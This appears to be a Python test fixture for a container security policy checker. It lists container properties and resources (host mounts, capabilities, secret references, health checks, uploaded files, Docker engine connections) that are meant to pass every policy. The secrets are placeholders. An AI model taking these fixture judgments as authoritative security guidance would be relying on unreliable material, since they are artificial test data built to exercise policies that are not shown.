HARMLESS: Mapping[str, Props] = {
    "other memory": {"memory": 512, "memorySwap": 512},
    "a named volume": named("shop-data_1.old"),
    "a mount of a named volume": {"mounts": [{"type": "volume", "source": "shop-data", "target": "/x"}]},
    "a mount in memory": {"mounts": [{"type": "tmpfs", "target": "/tmp", "tmpfsOptions": {"sizeBytes": 1e6}}]},
    "folders in memory": {"tmpfs": {"/tmp": "size=64m,mode=1777"}},
    "a volume in memory": driver(type="tmpfs", device="tmpfs", o="size=64m,uid=1000"),
    "a volume on a server": driver(type="nfs", device=":/shop", o="addr=10.0.0.7,ro,nfsvers=4"),
    "a volume of the engine's own kind": {
        "mounts": [{"type": "volume", "source": "v", "target": "/x", "volumeOptions": {"driverName": "local", "noCopy": True}}]
    },
    "a volume made of a folder of its own": driver(type="none", o="bind", device="/srv/shop/data"),
    "a folder of its own": bind("/srv/shop/data"),
    "a folder on another disk": bind("/mnt/disk1"),
    "data below /var/lib": bind("/var/lib/shop/data"),
    "the host's log": read("/var/log"),
    "the host's journal": read("/run/log/journal"),
    "the host's clock": {"mounts": [*read("/etc/localtime")["mounts"], *read("/etc/timezone")["mounts"]]},
    "the host's name and users": {"mounts": [*read("/etc/hostname")["mounts"], *read("/etc/passwd")["mounts"]]},
    "public certificates": read("/etc/ssl/certs"),
    "the host's identity": read("/etc/machine-id"),
    "information from the kernel": {"mounts": [*read("/proc")["mounts"], *read("/sys")["mounts"]]},
    "names of disks": read("/dev/disk"),
    "udev's data": read("/run/udev/data"),
    "configuration of a web server": read("/etc/nginx/conf.d"),
    "PostgreSQL's folder": bind("/run/postgresql", read_only=True),
    "a port below 1024": adds("NET_BIND_SERVICE"),
    "a server that changes its user": adds("CAP_SETUID", "CAP_SETGID", "CAP_CHOWN"),
    "memory that stays": adds("CAP_IPC_LOCK"),
    "protections": {"securityOpts": ["no-new-privileges:true", "apparmor=docker-default", "seccomp=builtin"]},
    "protections in another spelling": {"securityOpts": ["no-new-privileges"]},
    "settings of its own network": {"sysctls": {"net.ipv4.ip_forward": "0", "net.core.somaxconn": "1024"}},
    "namespaces of its own": {"networkMode": "bridge", "pidMode": "", "ipcMode": "private", "cgroupnsMode": "private", "runtime": "runc"},
    "no network": {"networkMode": "none"},
    "networks by name": {"networksAdvanced": [{"name": "shop_default", "aliases": ["shop"]}, {"name": "hosting"}]},
    "limits": {"ulimits": [{"name": "nofile", "soft": 1024, "hard": 2048}], "shmSize": 64, "cpuShares": 512},
    "the group of the log": {"groupAdds": ["4"]},
    "labels": {"labels": [{"label": "team", "value": "shop"}, {"label": "observability.scrape", "value": "true"}]},
    "a route of Traefik": {"labels": [{"label": "traefik.http.routers.shop.rule", "value": "Host(`shop.example.com`) && PathPrefix(`/token`)"}]},
    "a label about tokens": {"labels": [{"label": "description", "value": "Rotates the token: daily, key=value pairs"}]},
    "a password by its file": env("POSTGRES_PASSWORD_FILE", "/run/secrets/password"),
    "a password by a path": env("ADMIN_PASSWORD", "/config/current/secrets/admin"),
    "a password by a path with dots": env("DB_PASSWORD", "./secrets/db"),
    "a password by a reference": env("DB_PASSWORD", "${DB_PASSWORD}"),
    "a password by a reference of Grafana": env("GF_DATABASE_PASSWORD", "$__file{/etc/secrets/db}"),
    "how long a token lives": env("TOKEN_TTL", "3600"),
    "how many tokens": env("MAX_TOKENS", "4096"),
    "how long passwords are": env("PASSWORD_MIN_LENGTH", "12"),
    "before all keys": env("KEYS_PREFIX", "shop:"),
    "the name of a secret": env("SECRET_NAME", "database"),
    "a header for tokens": env("TOKEN_HEADER", "X-Shop-Token"),
    "where tokens come from": env("OAUTH_TOKEN_URL", "https://id.example.com/token"),
    "whether there are passwords": env("PASSWORD_LOGIN_ENABLED", "false"),
    "a way of login": env("AUTH", "basic"),
    "a key of a cache": env("CACHE_KEY", "shop"),
    "a public key": env("JWT_PUBLIC_KEY", "-----BEGIN PUBLIC KEY-----"),
    "a key to sort by": env("SORT_KEY", "created_at"),
    "a compass, a bypass, a tokenizer": {"envs": ["COMPASS=north", "BYPASS=on", "TOKENIZER=bert", "SECRETARY=Ann", "MONKEY=x"]},
    "how passwords are kept": {
        "envs": ["PASSWORD_HASHING=argon2", "WEBHOOK_PORT=9443", "TOKENS_PER_SECOND=5", "SECRET_ROTATION_DAYS=30"]
    },
    "a header by a reference": env("OTEL_EXPORTER_OTLP_HEADERS", "authorization=Bearer ${TOKEN}"),
    "a port of a program beside a host called mongo": args("app", "--host", "mongo", "-p", "8080", "-a", "redis-cli"),
    "a login by its input": args("docker-login", "--password-stdin", "registry.example.com"),
    "a commit and a digest": {"envs": [f"COMMIT={'0a' * 20}", f"IMAGE=docker.io/x@sha256:{'0a' * 32}"]},
    "a connection without a password": env("DATABASE_URL", "postgres://shop@db:5432/shop?sslmode=disable&passfile=/run/secrets/pg"),
    "a connection with a reference": env("DATABASE_URL", "postgres://shop:${DB_PASSWORD}@db:5432/shop"),
    "a URL with an @ behind its port": env("REPO", "http://git:3000/shop/app@v1"),
    "OTLP": {"envs": ["OTEL_EXPORTER_OTLP_ENDPOINT=http://otel-collector:4318", "OTEL_RESOURCE_ATTRIBUTES=service.namespace=shop,team=a"]},
    "a health check": health("CMD", "wget", "-q", "-O", "/dev/null", "http://127.0.0.1:9121/health"),
    "a health check in a shell": health("CMD-SHELL", "redis-cli ping | grep PONG || exit 1"),
    "a health check of PostgreSQL": health("CMD", "pg_isready", "-U", "postgres", "-h", "127.0.0.1"),
    "a health check of MySQL": health("CMD", "mysqladmin", "-h", "127.0.0.1", "-P", "3306", "ping"),
    "a login by a file": args("app", "--password-file", "/run/secrets/password", "--token.path=/run/secrets/token"),
    "a login by a file in a shell": args("sh", "-c", 'app --password "$(cat /run/secrets/password)" -a'),
    "flags that are no secrets": args("app", "--web.enable-lifecycle", "-a", "0.0.0.0:80", "-p", "8080", "-u", "nobody"),
    "a switch about passwords": args("app", "--require-password", "--no-token", "serve"),
    "a config file": upload("/etc/app.yml", "password_file: /run/secrets/db\ntoken_ttl: 1h\nkeys: [a, b]\nauth: {type: basic}\n"),
    "rules that speak of tokens": upload("/rules.yml", "groups: [{name: a, rules: [{alert: TokenErrors, expr: 'sum(x{token=\"a\"})'}]}]"),
    "a secret that is a file": upload("/run/secrets/password", "hunter2"),
    "a file beside the program": {"uploads": [{"file": "/x.txt", "source": "files/x.txt"}]},
    "options of the log": {"logOpts": {"max-size": "10m", "max-file": "3"}},
    "a folder in memory with all its options": {"tmpfs": {"/tmp": "rw,noexec,nosuid,nodev,size=64m,mode=1777,uid=10,gid=10"}},
    "a part of a volume": {"mounts": [{"type": "volume", "source": "v", "target": "/x", "volumeOptions": {"subpath": "shop/data"}}]},
    "mounts of the host that come later": {"mounts": [{**read("/mnt/disks")["mounts"][0], "bindOptions": {"propagation": "rslave"}}]},
    "ids": {"envs": [f"TRACE={'4bf92f35' * 4}", "ID=123e4567-e89b-12d3-a456-426614174000", "CLUSTER_ID=MkU3OEVBNTcwNTJENDM2Qk"]},
    "a port of a container that docker starts": args("docker", "run", "-p", "8080:80", "shop"),
    "long names": {"envs": ["BUCKET=my-Company-Logs-2026-Prod-EU-1", "HANDLER=com.example.shop.OrderServiceV2Controller3", "TOPIC=Shop2026OrdersCreatedV1Events"]},
    "a digest of a script": env("INTEGRITY", "sha384-oqVuAfXRKap7fdgcCY5uykM6+R9GqQ8KuxYw6mO5fTgn3zYc8mK1rYcQ9d0oJ1bB"),
    "harmless text in base64": env("GREETING", "SGVsbG8sIHdvcmxkIG9mIHNob3Bz"),
    "a pin of a board": env("LED_PIN", "17"),
    "a seed for tests": env("RANDOM_SEED", "42"),
    "a login by a path": env("LOGIN", "/login"),
    "a password by a pipe from its file": args("sh", "-c", "cat /run/secrets/x | docker login -u ops --password-stdin"),
    "a program that reads its password": upload("/app.py", "PASSWORD = os.environ['PASSWORD']\ntoken = request.headers.get('token')\n"),
    "a config file without a suffix": upload("/etc/Caddyfile", ":80 {\n  reverse_proxy app:80\n}\n"),
    "a secret that is a file under an odd name": upload("/etc/app/license", "abc.def-123\n"),
    "a secret that is a key": upload("/etc/app/tls.pem", f"{KEY}\nMHcC\n-----END OPENSSH PRIVATE KEY-----\n"),
    "a secret with names in a folder of secrets": upload("/run/secrets/db", "DB_USER=shop\nDB_PASSWORD=hunter2\n"),
}  # fmt: skip
"""What it is → the properties of a container that passes every policy above."""

ALLOWED: Mapping[str, Resource] = {
    "a known command": command(KNOWN, environment={"ORDER": UNKNOWN}, addPreviousOutputInEnv=False, logging="none"),
    "the other known command": command(".venv/bin/python -m engine.annotation", environment={"ORDER": "{}"}),
    "a network": network(driver="bridge", internal=True, ipamConfigs=[{"subnet": "198.18.0.0/27"}]),
    "a network with harmless options": network(options={"com.docker.network.driver.mtu": "1400"}),
    "a volume": of(declared.VOLUME, name="v"),
    "a volume in memory": of_volume(type="tmpfs", device="tmpfs", o="size=64m"),
    "a volume on a server": of_volume(type="nfs4", device=":/shop", o="addr=10.0.0.7"),
    "a part of this project": of("nervous-system:index:Service"),
    "the engine": of(PROVIDER, host="unix:///var/run/docker.sock", version="5.2.0", context=""),
    "an engine by ssh": of(
        PROVIDER, host="ssh://ops@h", sshOpts=["-oBatchMode=yes", "-o", "StrictHostKeyChecking=yes", "-i", "key"]
    ),
    "an engine by TLS": of(PROVIDER, host="tcp://10.0.0.9:2376", certPath="certs"),
    "an engine by TCP on this machine": of(PROVIDER, host="tcp://127.0.0.1:2375"),
    "a network with addresses": network(
        ipamDriver="default", ingress=False, labels=[{"label": "team", "value": "shop"}]
    ),
}
"""What it is → a resource that passes every policy above."""
